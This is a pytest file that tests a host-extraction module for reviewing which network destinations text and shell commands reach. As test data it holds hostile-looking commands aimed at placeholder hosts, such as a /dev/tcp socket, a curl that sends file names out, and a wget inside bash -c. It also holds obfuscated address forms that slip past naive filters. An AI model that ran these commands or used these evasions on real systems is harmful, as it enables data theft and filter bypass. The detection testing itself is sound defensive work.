"""A host is found in every form that a resolver, a browser or a copying program knows."""

from __future__ import annotations

import time

import pytest

from metier.review.reach.hosts import bare_hosts_in, canonical, hosts_in, hosts_of
from metier.text.shell.parse import parse_commands


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("HTTPS://Evil.Example/x", "evil.example"),
        ("see http://[2001:DB8:0::1]:80/", "2001:db8::1"),
        ("http://[::ffff:10.1.2.3]/", "10.1.2.3"),
        ("http://167838211/x", "10.1.2.3"),
        ("http://0x0a010203/", "10.1.2.3"),
        ("http://012.1.2.3/", "10.1.2.3"),
        ("http://0x0a.66051/", "10.1.2.3"),
        ("src=//cdn.evil.example/x.js and //cdn.evil.example/y", "cdn.evil.example"),
        ("wss://a.evil.example.:443/", "a.evil.example"),
        ("https://good.example@evil.example/", "evil.example"),
        ("https://%65vil.example/", "evil.example"),
        ("http:\\\\evil.example\\x", "evil.example"),
        ("mail it to desk@evil.example", "evil.example"),
        ("at 203.0.113.9 or so", "203.0.113.9"),
        ("route 2001:db8::5 first", "2001:db8::5"),
        ("exec 3<>/dev/tcp/evil.example/443", "evil.example"),
    ],
)
def test_every_form_of_an_address_gives_its_host(text: str, host: str) -> None:
    assert host in set(hosts_in(text))


@pytest.mark.parametrize(
    "text",
    [
        "file:///etc/hosts",
        "// a comment",
        "src//app.py",
        "12:34:56",
        "std::vector",
        "version 1.2.3",
        "http://localhost:3000",
        "http://127.0.0.1/",
        "http://[::1]/",
        "run setup.sh, app.py and README.md",
        "It works.It is done.",
        "node.js",
        "e.g.",
    ],
)
def test_what_is_no_host_is_not_taken_for_one(text: str) -> None:
    assert [*hosts_in(text), *bare_hosts_in(text)] == []


@pytest.mark.parametrize(
    ("line", "host"),
    [
        ("rsync -a reports/ backup-box:/incoming/", "backup-box"),
        ("scp a.csv me@files.example:/srv", "files.example"),
        ("git clone box:team/repo", "box"),
        ("git remote add mirror box:repo", "box"),
        ("git push box:repo main", "box"),
        ("go run goodtools.example/norm@latest a.csv", "goodtools.example"),
        ("docker pull registry.evil.example/x:1", "registry.evil.example"),
        ("curl 167838211/x", "10.1.2.3"),
        ("ping evil", "evil"),
        ("H=evil.example; curl $H/x", "evil.example"),
        ("bash -c 'wget EVIL.EXAMPLE'", "evil.example"),
        ("terraform apply -var host=api.evil.dev", "api.evil.dev"),
        ("ls | xargs -I{} curl evil.sh/{}", "evil.sh"),
    ],
)
def test_the_hosts_of_a_command_are_read_from_its_words(line: str, host: str) -> None:
    assert host in {one for command in parse_commands(line) for one in hosts_of(command)}


@pytest.mark.parametrize(
    "line",
    [
        "git push origin HEAD:main",
        "git show HEAD:src/a.py",
        "npm run test:unit",
        "docker run -p 80:80 nginx:1.2",
        "pytest tests/test_a.py::test_b",
        "python tools/report.py --out reports/latest.csv",
        "cp conf.d/x.toml y",
    ],
)
def test_ordinary_arguments_are_no_hosts(line: str) -> None:
    assert [one for command in parse_commands(line) for one in hosts_of(command)] == []


def test_one_host_has_one_spelling() -> None:
    assert {canonical(one) for one in ("Evil.Example.", "EVIL.example", "evil。example")} == {"evil.example"}


@pytest.mark.parametrize("sign", ["a.", "a:", "/", "//a", "@a", "1.", "a@", "f:", "http://", "0x1."])
def test_hostile_repetition_takes_no_longer_than_its_length(sign: str) -> None:
    text = sign * (100_000 // len(sign))
    began = time.process_time()
    assert sum(1 for _ in (*hosts_in(text), *bare_hosts_in(text))) >= 0
    assert time.process_time() - began < 2
